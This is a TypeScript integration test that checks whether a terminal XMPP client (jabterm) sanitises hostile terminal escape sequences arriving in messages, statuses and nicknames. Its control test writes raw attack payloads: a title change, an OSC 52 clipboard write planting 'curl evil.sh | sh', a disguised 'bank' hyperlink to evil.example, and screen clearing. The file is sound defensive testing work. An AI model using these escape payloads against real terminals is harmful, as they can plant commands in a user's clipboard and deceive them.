/**
 * Hostile text from the network, through Prosody, into the real binary in a real terminal (tmux).
 *
 * A second account (a jabterm core client, so every stanza is crafted exactly, CR sent as &#13;)
 * sends every case of test/fixtures/hostile/corpus.json that XMPP can carry (and, for the cases
 * built on ESC or other C0 controls, which XML cannot carry, the same attack spelled with C1
 * controls: CSI U+009B, OSC U+009D, DCS U+0090, ST U+009C) as a message body, as a status text
 * (read back with /info), as a PEP nickname (shown in the roster pane) and as the nick and status
 * of a subscription request (read back with /requests). After each one, on the captured screen:
 *  - the text shows as the sanitiser's placeholders, and in message bodies and the roster pane
 *    those placeholders are drawn inert (reverse video);
 *  - a marker line sent just before is still there, right above it (no clear, no scroll, no
 *    injected line), and a "\r" did not overwrite what came before it;
 *  - the pane title, the mouse modes, the alternate screen (on: the interface uses it), the
 *    scrollback size and the other mode flags tmux tracks are as they were; no paste buffer
 *    appeared although set-clipboard is on (no OSC 52 write);
 *  - every byte jabterm wrote to the terminal meanwhile (pipe-pane) holds only the escape
 *    sequences the interface itself uses: no OSC (titles, OSC 8 hyperlinks, OSC 52), DCS or other
 *    string, no C1 control, no bare CR, no bidi, zero-width or tag character. tmux 3.3 neither
 *    draws hyperlinks nor acts on UTF-8-encoded C1 controls, so this byte check is what catches
 *    those.
 * A control test runs the same probes against a program that writes the raw sequences, to show
 * that each probe does see the attack it looks for.
 */
import fs from "node:fs";
import path from "node:path";

import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { ConfigStore } from "../../src/core/config/config.js";
import { resolvePaths } from "../../src/core/config/paths.js";
import { sanitize, sanitizeSegments } from "../../src/core/text/sanitize.js";
import { xml, type XmlElement } from "../../src/core/xmpp/transport/xml.js";
import { serverKeys, tempClient } from "../helpers/engine.js";
import { BIN, tempDirs } from "../helpers/headless.js";
import { prosodyAvailable, startProsody, type ProsodyAccount, type ProsodyServer } from "../helpers/prosody.js";
import { startTerminal, tmuxAvailable, type StyledRow, type Terminal } from "../helpers/tmux.js";
import { waitFor } from "../helpers/wait-for.js";

const run = prosodyAvailable() && tmuxAvailable() ? describe : describe.skip;

// ---------------------------------------------------------------------------------------------
// the corpus, as XMPP can carry it

interface CorpusCase {
  name: string;
  input: string;
  inert?: string[];
}
const corpus = JSON.parse(fs.readFileSync(new URL("../fixtures/hostile/corpus.json", import.meta.url), "utf8")) as { hostile: CorpusCase[]; legit: CorpusCase[] };

/** Characters XML 1.0 can carry (a lone surrogate is not one). */
const XML_OK = /^[\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]*$/u;
const NOT_XML = /[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/gu;

/** The same attack with C1 introducers instead of ESC (BEL becomes ST); what XML still cannot carry is left out. */
function overXmpp(input: string): string {
  return input
    .replace(/\x1b\[/g, "\u009b")
    .replace(/\x1b\]/g, "\u009d")
    .replace(/\x1bP/g, "\u0090")
    .replace(/\x1b\\/g, "\u009c")
    .replace(/\x07/g, "\u009c")
    .replace(NOT_XML, "");
}

interface Case {
  name: string;
  input: string;
  hostile: boolean;
}

const hostileCases: Case[] = corpus.hostile.flatMap((c): Case[] => {
  if (XML_OK.test(c.input)) return [{ name: c.name, input: c.input, hostile: true }];
  const v = overXmpp(c.input);
  // Only a variant that still holds something the sanitiser must act on is worth sending.
  return v !== "" && sanitize(v, { multiline: true }) !== v ? [{ name: `${c.name} (as XMPP can carry it)`, input: v, hostile: true }] : [];
});
const legitCases: Case[] = corpus.legit.map((c) => ({ name: c.name, input: c.input, hostile: false }));

// ---------------------------------------------------------------------------------------------
// crafting stanzas

/** Text that serialises exactly: markup escaped, CR as &#13; (a raw CR would become LF in the server's parser). */
function exactText(s: string): XmlElement {
  const escaped = s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/\r/g, "&#13;");
  return { write: (w: (chunk: string) => void) => w(escaped) } as unknown as XmlElement;
}

const NS_NICK = "http://jabber.org/protocol/nick";

// ---------------------------------------------------------------------------------------------
// reading the screen

/** Everything tmux tracks that a stray control sequence could change, in one line. */
const MODES = [
  "alternate_on",
  "mouse_any_flag",
  "mouse_standard_flag",
  "mouse_button_flag",
  "mouse_all_flag",
  "mouse_sgr_flag",
  "mouse_utf8_flag",
  "origin_flag",
  "insert_flag",
  "keypad_flag",
  "keypad_cursor_flag",
  "wrap_flag",
  "scroll_region_upper",
  "scroll_region_lower",
  "history_size",
  "pane_in_mode",
  "pane_title",
]
  .map((f) => `${f}=#{${f}}`)
  .join(" | ");

interface Probe {
  modes: string;
  buffers: string;
}

/**
 * jabterm sets the window title to its own text: "jabterm", with the unread count while there is one.
 * The count follows the messages the cases send, so it is left out of the comparison; any other
 * title (one a hostile text set) still differs from the baseline.
 */
async function probe(term: Terminal): Promise<Probe> {
  const modes = await term.format(MODES);
  return { modes: modes.replace(/pane_title=jabterm \(\d+\)$/, "pane_title=jabterm"), buffers: await term.buffers() };
}

const squash = (s: string) => s.replace(/\s+/g, "");

/** The main area of the interface: the rows between the tab bar and the status line. */
function mainRows(rows: StyledRow[]): StyledRow[] {
  return rows.slice(1, rows.length - 2);
}

/** The part of a main row right of the roster pane's border ("│"); the whole row when the pane is hidden. */
function rightOfBorder(row: StyledRow): StyledRow {
  const at = row.text.indexOf("│");
  if (at < 0) return row;
  return { text: row.text.slice(at + 1), cells: row.cells.slice(at + 1) };
}

/** The main area of a plain screen capture, one side of the roster pane's border, squashed (no whitespace). */
function mainText(screen: string, side: "left" | "right"): string {
  const rows = screen.replace(/\n$/, "").split("\n").slice(1, -2);
  return squash(rows.map((r) => (side === "right" ? r.slice(r.indexOf("│") + 1) : r.indexOf("│") < 0 ? "" : r.slice(0, r.indexOf("│")))).join(""));
}

/**
 * Whether a plain capture shows a whole frame: the roster border on every main row. A frame is
 * written in more than one chunk when the pty is full, and the process may be busy (storing a
 * message) before the rest goes out: waiting for the text alone can catch a frame half drawn.
 */
function wholeFrame(screen: string): boolean {
  return screen.replace(/\n$/, "").split("\n").slice(1, -2).every((r) => r.includes("│"));
}

function leftOfBorder(row: StyledRow): StyledRow {
  const at = row.text.indexOf("│");
  return at < 0 ? { text: "", cells: [] } : { text: row.text.slice(0, at), cells: row.cells.slice(0, at) };
}

/** The roster pane's border sits in one column on every main row (a width mistake would shift it). */
function expectBorderAligned(rows: StyledRow[]): void {
  const columns = mainRows(rows).map((r) => r.text.indexOf("│"));
  expect(new Set(columns).size, `border columns ${columns.join(",")}\n${rows.map((r) => r.text).join("\n")}`).toBe(1);
  expect(columns[0]).toBeGreaterThan(0);
}

/**
 * Checks that `expected` (sanitiser output) is on screen, in order, within `region`, ignoring
 * whitespace (wrapping), and that its inert pieces are drawn in reverse video.
 */
function expectRendered(region: StyledRow[], start: string, segments: { text: string; inert?: true }[], end: string, label: string, opts: { style?: boolean } = {}): void {
  // Compare code point by code point: tmux gives one cell per character, wide ones included.
  const cps = (s: string) => [...squash(s)];
  const cells = region.flatMap((r) => r.cells).filter((c) => !/\s/.test(c.ch));
  const whole = cps(start + segments.map((s) => s.text).join("") + end);
  let at = -1;
  for (let k = 0; k + whole.length <= cells.length && at < 0; k++) if (whole.every((ch, j) => cells[k + j]!.ch === ch)) at = k;
  expect(at, `${label}: expected ${JSON.stringify(whole.join(""))} on screen:\n${region.map((r) => r.text).join("\n")}`).toBeGreaterThanOrEqual(0);
  if (opts.style === false) return;
  let i = at + cps(start).length;
  for (const seg of segments) {
    const piece = cells.slice(i, i + cps(seg.text).length);
    if (seg.inert) {
      const plain = piece.filter((c) => !c.inverse).map((c) => c.ch).join("");
      expect(plain, `${label}: placeholder ${JSON.stringify(seg.text)} drawn inert (reverse video)`).toBe("");
    } else {
      const inverted = piece.filter((c) => c.inverse).map((c) => c.ch).join("");
      expect(inverted, `${label}: text ${JSON.stringify(seg.text)} drawn as plain text`).toBe("");
    }
    i += piece.length;
  }
}

// ---------------------------------------------------------------------------------------------
// what jabterm wrote to the terminal

/**
 * The escape sequences the interface itself writes: SGR, cursor moves, erase (ECH too), its own modes, the
 * title stack (push, pop) and its own window title ("jabterm", and the unread count).
 */
const OWN_SEQUENCE = /^(?:\x1b\[(?:[0-9;]*[mABCDEFGHJKSTXfd]|\?(?:25|1049|2004|2026)[hl]|\?1000l|2[23];0t)|\x1b\]2;jabterm(?: \(\d+\))?\x07)$/;
// eslint-disable-next-line no-control-regex
const ESCAPE = /\x1b(?:\[[0-?]*[ -/]*[@-~]|[\]PX^_][^\x07\x1b]*(?:\x07|\x1b\\)?|[\s\S])/g;

/**
 * Problems in a stretch of terminal output: foreign escape sequences, C1 controls, bare CR (the
 * pty turns LF into CRLF, so a CR is fine only before LF), other C0 controls, and, when `strictText`,
 * bidi controls, invisible and tag characters (legit emoji ZWJ and flag sequences keep theirs).
 */
function outputProblems(out: string, strictText: boolean): string[] {
  const problems: string[] = [];
  for (const m of out.matchAll(ESCAPE)) if (!OWN_SEQUENCE.test(m[0])) problems.push(`escape ${JSON.stringify(m[0])}`);
  // eslint-disable-next-line no-control-regex
  const text = out.replace(ESCAPE, "");
  for (const m of text.matchAll(/[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f]|\r(?!\n)/g)) {
    const what = m[0] === "\r" ? "bare CR" : `control U+${m[0].charCodeAt(0).toString(16).toUpperCase().padStart(4, "0")}`;
    problems.push(`${what} in ${JSON.stringify(text.slice(Math.max(0, m.index - 20), m.index + 20))}`);
  }
  if (strictText) {
    for (const m of out.matchAll(/[\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb]|[\u{e0000}-\u{e007f}]/gu)) problems.push(`character U+${m[0].codePointAt(0)!.toString(16).toUpperCase()}`);
  }
  return [...new Set(problems)];
}

// ---------------------------------------------------------------------------------------------

run("hostile text from the network in a real terminal", () => {
  let server: ProsodyServer;
  beforeAll(async () => {
    server = await startProsody();
  });
  afterAll(async () => {
    await server?.cleanup();
  });

  /**
   * `me` runs jabterm in tmux; `mallory` is a core client with a mutual subscription to `me` (so
   * her presence and PEP nickname reach jabterm).
   */
  async function setup() {
    const [me, mallory] = await Promise.all([server.createAccount(), server.createAccount()]);
    const mal = tempClient([{ jid: mallory.jid, name: "mallory", set: serverKeys(server, mallory.password) }]);
    const own = tempClient([{ jid: me.jid, name: "me", set: serverKeys(server, me.password) }]);
    await Promise.all([mal.connectAll(), own.connectAll()]);
    const subscribe = async (from: typeof mal, to: typeof mal, toJid: string, fromJid: string) => {
      const mark = to.events.length;
      await from.command(`/sub request ${toJid}`);
      await to.waitEvent((e) => e.event === "subscription_request" && e.jid === fromJid, { after: mark });
      const back = from.events.length;
      await to.command(`/sub allow ${fromJid}`);
      await from.waitEvent((e) => e.event === "subscription" && e.type === "subscribed" && e.jid === toJid, { after: back });
    };
    await subscribe(own, mal, mallory.jid, me.jid);
    await subscribe(mal, own, me.jid, mallory.jid);
    await own.close();

    const dirs = tempDirs("jabterm-hostile-");
    const cfg = ConfigStore.open(resolvePaths({ configDir: dirs.configDir, dataDir: dirs.dataDir, env: {} }));
    cfg.addAccount(me.jid, { name: "me" });
    for (const [k, v] of Object.entries(serverKeys(server, me.password))) cfg.setAccountKey("me", k, String(v));
    // No bell for the messages the cases send: then any BEL in the output would be one that leaked.
    cfg.setSetting("chat_bell", "false");
    const outputLog = path.join(dirs.dir, "terminal-output.bin");
    const cmd = ["node", BIN, "--config-dir", dirs.configDir, "--data-dir", dirs.dataDir, "--log-file", dirs.logFile].map((x) => `'${x}'`).join(" ");
    // CI=true on purpose: chalk would drop colours and attributes for it (the inert placeholders
    // would look like plain text) and Ink would draw no live frames; jabterm hides it from them
    // while the interface's code loads (loadInteractive in src/cli/main.ts).
    const presenceMark = mal.events.length;
    const term = await startTerminal(["sh", "-c", `exec env CI=true CONTINUOUS_INTEGRATION=1 ${cmd}`], { columns: 110, rows: 30, clipboard: true, outputLog });
    const close = async () => {
      await term.kill();
      await mal.close();
      // The hung-up jabterm still drains and writes its history and caches: its lock goes last.
      await waitFor(() => !fs.existsSync(path.join(dirs.dataDir, "jabterm.lock")), { timeout: 20_000 }).catch(() => undefined);
      fs.rmSync(dirs.dir, { recursive: true, force: true, maxRetries: 10, retryDelay: 50 });
    };
    try {
      await term.waitFor(/me: online as/);
      // Messages sent before jabterm's initial presence would wait offline and arrive marked delayed.
      await mal.waitEvent((e) => e.event === "presence" && String(e.from).startsWith(`${me.jid}/`) && e.available !== false, { after: presenceMark });
    } catch (err) {
      await close();
      throw err;
    }
    const account = mal.engine.find("mallory")!;
    let seq = 0;
    const sendBody = (body: string) => account.send(xml("message", { to: me.jid, type: "chat", id: `h${++seq}` }, xml("body", {}, exactText(body))));
    // What jabterm wrote that no check has read yet (bytes that reach the log after one check are
    // read by the next: nothing goes unchecked).
    let checked = 0;
    const output = {
      unchecked: () => {
        const all = fs.readFileSync(outputLog);
        const out = all.subarray(checked).toString("utf8");
        checked = all.length;
        return out;
      },
    };
    return {
      me,
      mallory,
      mal,
      account,
      term,
      dirs,
      output,
      sendBody,
      close,
    };
  }

  test("message bodies: every case shows as inert placeholders and changes nothing in the terminal", async () => {
    const s = await setup();
    try {
      await s.term.type(`/chat ${s.mallory.jid}`);
      await s.term.keys("Enter");
      await s.term.waitFor(`me›${s.mallory.jid}`);
      const baseline = await probe(s.term);
      expect(baseline.modes).toMatch(/alternate_on=1 \| mouse_any_flag=0 /);
      expect(baseline.buffers).toBe("");

      for (const [i, c] of [...hostileCases, ...legitCases].entries()) {
        const label = `case ${i} "${c.name}"`;
        const marker = `M${i}-marker`;
        const start = `C${i}[`;
        const end = `]E${i}.`;
        await s.sendBody(marker);
        await s.sendBody(`${start}${c.input}${end}`);
        await s.term.waitFor((scr) => mainText(scr, "right").includes(end) && wholeFrame(scr), 10_000);
        const rows = await s.term.styledScreen();
        const chat = mainRows(rows).map(rightOfBorder);
        const bytes = s.output.unchecked();

        expectBorderAligned(rows);
        const segments = sanitizeSegments(c.input, { multiline: true });
        if (c.hostile) {
          expectRendered(chat, start, segments, end, label);
        } else {
          // Legit text is written to the terminal exactly as received. (How the terminal draws it is
          // its own business: tmux 3.3 draws emoji ZWJ sequences as separate emoji and drops some.)
          expect(segments.filter((x) => x.inert), `${label}: legit text stays as it is`).toEqual([]);
          // (Escapes removed with this file's full pattern: node's stripVTControlCharacters leaves
          // the final byte of some, such as ECH "ESC [ n X".)
          const written = bytes.replace(ESCAPE, "").replace(/[\s│]/g, "");
          expect(written, `${label}: written unchanged`).toContain(squash(start + c.input + end));
        }
        for (const piece of corpus.hostile.find((h) => h.name === c.name)?.inert ?? []) {
          // the fixture's expected placeholders hold for multiline too, except those for line breaks
          if (!/[⏎]/.test(piece)) expect(squash(chat.map((r) => r.text).join("")), `${label}: fixture placeholder`).toContain(squash(piece));
        }

        // The marker is still on screen, on the row right above the case.
        const markerRow = chat.findIndex((r) => r.text.includes(marker));
        const caseRow = chat.findIndex((r) => r.text.includes(start));
        expect(markerRow, `${label}: marker still visible\n${rows.map((r) => r.text).join("\n")}`).toBeGreaterThanOrEqual(0);
        expect(caseRow, `${label}: case starts right below the marker\n${rows.map((r) => r.text).join("\n")}`).toBe(markerRow + 1);

        expect(await probe(s.term), `${label}: terminal modes, title, clipboard`).toEqual(baseline);
        expect(outputProblems(bytes, c.hostile), `${label}: bytes written to the terminal`).toEqual([]);
      }
      expect(outputProblems(s.output.unchecked(), false), "bytes written to the terminal at the end").toEqual([]);
    } finally {
      await s.close();
    }
  }, 240_000);

  test("status texts (/info), PEP nicknames (roster pane) and subscription requests (/requests)", async () => {
    const s = await setup();
    const trudyAccount = await server.createAccount();
    const trudy = tempClient([{ jid: trudyAccount.jid, name: "trudy", set: serverKeys(server, trudyAccount.password) }]);
    await trudy.connectAll();
    try {
      const baseline = await probe(s.term);
      expect(baseline.modes).toMatch(/alternate_on=1 \| mouse_any_flag=0 /);

      // Status texts: /info prints them in the console tab. A chat message after the presence
      // (same stream, so it arrives after it) bumps mallory's unread count in the roster pane:
      // then /info sees the status. (The tab bar's count is not used: it can lag, see below.)
      const unreadShown = (scr: string, n: number) =>
        scr.split("\n").some((l) => {
          const left = l.includes("│") ? l.slice(0, l.indexOf("│")).trimEnd() : "";
          return /[●◉◐○⊘·]/.test(left) && left.endsWith(` ${n}`);
        });
      let unread = 0;
      let infoRuns = 0;
      for (const [i, c] of hostileCases.entries()) {
        const label = `status case ${i} "${c.name}"`;
        const start = `S${i}[`;
        const end = `]T${i}.`;
        await s.account.send(xml("presence", {}, xml("status", {}, exactText(`${start}${c.input}${end}`))));
        await s.sendBody(`sync ${i}`);
        unread++;
        await s.term.waitFor((scr) => unreadShown(scr, unread));
        await s.term.type(`/info ${s.mallory.jid}`);
        await s.term.keys("Enter");
        infoRuns++;
        await s.term.waitFor((scr) => mainText(scr, "right").includes(end) && wholeFrame(scr), 10_000);
        const rows = await s.term.styledScreen();
        expectBorderAligned(rows);
        // /info hands the status raw inside quotes; the console draws the line through the
        // sanitiser (single-line mode), so the placeholders are inert (reverse video) as in bodies.
        expectRendered(mainRows(rows).map(rightOfBorder), start, sanitizeSegments(c.input), end, label);
        expect(squash(rows.map((r) => r.text).join("")), `${label}: the console's earlier lines stay`).toContain(squash(`» /info ${s.mallory.jid}`));
        expect(await probe(s.term), `${label}: terminal modes, title, clipboard`).toEqual(baseline);
        expect(outputProblems(s.output.unchecked(), true), `${label}: bytes written to the terminal`).toEqual([]);
      }
      expect(infoRuns).toBe(hostileCases.length);

      // PEP nicknames: the roster pane shows mallory by the nick she publishes (no roster name).
      const nickCases = hostileCases.filter((c) => [...sanitize(c.input, { strict: true })].length <= 16);
      expect(nickCases.length).toBeGreaterThan(5);
      for (const [i, c] of nickCases.entries()) {
        const label = `nick case ${i} "${c.name}"`;
        const nick = `N${i}${c.input}`;
        await s.account.request("set", xml("pubsub", { xmlns: "http://jabber.org/protocol/pubsub" }, xml("publish", { node: NS_NICK }, xml("item", {}, xml("nick", { xmlns: NS_NICK }, exactText(nick))))));
        const expected = sanitizeSegments(nick, { strict: true });
        const shown = expected.map((x) => x.text).join("");
        await s.term.waitFor((scr) => scr.split("\n").some((l) => l.split("│")[0]!.includes(`● ${shown}`)) && wholeFrame(scr), 10_000);
        const rows = await s.term.styledScreen();
        expectBorderAligned(rows);
        expectRendered(mainRows(rows).map(leftOfBorder), "●", expected, "", label);
        expect(await probe(s.term), `${label}: terminal modes, title, clipboard`).toEqual(baseline);
        expect(outputProblems(s.output.unchecked(), true), `${label}: bytes written to the terminal`).toEqual([]);
      }

      // A subscription request whose nick and status are hostile: /requests lists both.
      for (const [i, c] of hostileCases.filter((x) => x.input.length <= 40).entries()) {
        const label = `request case ${i} "${c.name}"`;
        const nick = `R${i}${c.input}`;
        const status = `Q${i}[${c.input}]U${i}.`;
        await trudy.engine.find("trudy")!.send(xml("presence", { to: s.me.jid, type: "subscribe" }, xml("nick", { xmlns: NS_NICK }, exactText(nick)), xml("status", {}, exactText(status))));
        await s.term.waitFor("1 request (/requests)");
        await s.term.type("/requests");
        await s.term.keys("Enter");
        await s.term.waitFor((scr) => mainText(scr, "right").includes(`]U${i}.`) && wholeFrame(scr), 10_000);
        const rows = await s.term.styledScreen();
        expectBorderAligned(rows);
        expectRendered(mainRows(rows).map(rightOfBorder), `${trudyAccount.jid}(`, [{ text: sanitize(nick) }], `):${sanitize(status)}`, label, { style: false });
        expect(await probe(s.term), `${label}: terminal modes, title, clipboard`).toEqual(baseline);
        expect(outputProblems(s.output.unchecked(), true), `${label}: bytes written to the terminal`).toEqual([]);
        // Withdraw the request, so that the next one is a new one.
        await trudy.engine.find("trudy")!.send(xml("presence", { to: s.me.jid, type: "unsubscribe" }));
        await s.term.waitFor((scr) => !scr.includes("1 request (/requests)"));
      }
      expect(outputProblems(s.output.unchecked(), true), "bytes written to the terminal at the end").toEqual([]);
    } finally {
      await trudy.close();
      await s.close();
    }
  }, 240_000);

  test("control: the same probes see the raw attacks when nothing sanitises them", async () => {
    // The byte check flags what tmux would not show: C1 controls, bidi and invisible characters.
    expect(outputProblems("a\u009b2J b\u202ec\u200bd\u{e0041}", true)).toEqual([expect.stringMatching(/^control U\+009B in /), "character U+202E", "character U+200B", "character U+E0041"]);

    const dir = tempDirs("jabterm-hostile-control-");
    fs.mkdirSync(dir.dir, { recursive: true });
    const outputLog = path.join(dir.dir, "out.bin");
    const script = path.join(dir.dir, "attack.sh");
    // A program that prints a marker, then (one per line typed) raw attacks from the corpus.
    fs.writeFileSync(
      script,
      [
        "printf 'MARKER-LINE\\n'",
        "read _; printf 'good\\rbad\\n'",
        "read _; printf '\\033]0;pwned by mallory\\007'",
        "read _; printf '\\033]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\007'",
        "read _; printf '\\033[?1000h\\033[?1006h'",
        "read _; printf '\\033]8;;https://evil.example/\\033\\\\bank\\033]8;;\\033\\\\\\n'",
        "read _; printf '\\033[2J\\033[Hcleared\\n'",
        "read _; printf '\\033[?1049h'",
        "read _",
      ].join("\n"),
    );
    const term = await startTerminal(["sh", script], { columns: 80, rows: 10, clipboard: true, outputLog });
    try {
      await term.waitFor("MARKER-LINE");
      const before = await probe(term);
      const step = async () => {
        await term.keys("Enter");
      };
      await step();
      const cr = await term.waitFor((s) => s.includes("badd"));
      expect(cr).not.toContain("good"); // the overwrite hides text: what the sanitiser prevents
      await step();
      await waitFor(async () => (await term.format("#{pane_title}")) === "pwned by mallory", { message: "title change seen" });
      await step();
      await waitFor(async () => (await term.buffers()).includes("curl evil.sh | sh"), { message: "OSC 52 write seen as a paste buffer" });
      await step();
      await waitFor(async () => (await term.format("#{mouse_any_flag}")) === "1", { message: "mouse mode seen" });
      await step();
      await waitFor(async () => fs.readFileSync(outputLog, "utf8").includes("\x1b]8;;https://evil.example/"), { message: "hyperlink bytes seen" });
      expect(outputProblems(fs.readFileSync(outputLog, "utf8"), true).some((p) => p.startsWith("escape") && p.includes("]8;;"))).toBe(true);
      await step();
      const cleared = await term.waitFor("cleared");
      expect(cleared).not.toContain("MARKER-LINE");
      await step();
      await waitFor(async () => (await term.format("#{alternate_on}")) === "1", { message: "alternate screen seen" });
      expect(await probe(term)).not.toEqual(before);
      expect(outputProblems(fs.readFileSync(outputLog, "utf8"), true).some((p) => p.startsWith("bare CR"))).toBe(true);
    } finally {
      await term.kill();
      fs.rmSync(dir.dir, { recursive: true, force: true, maxRetries: 10, retryDelay: 50 });
    }
  });
});
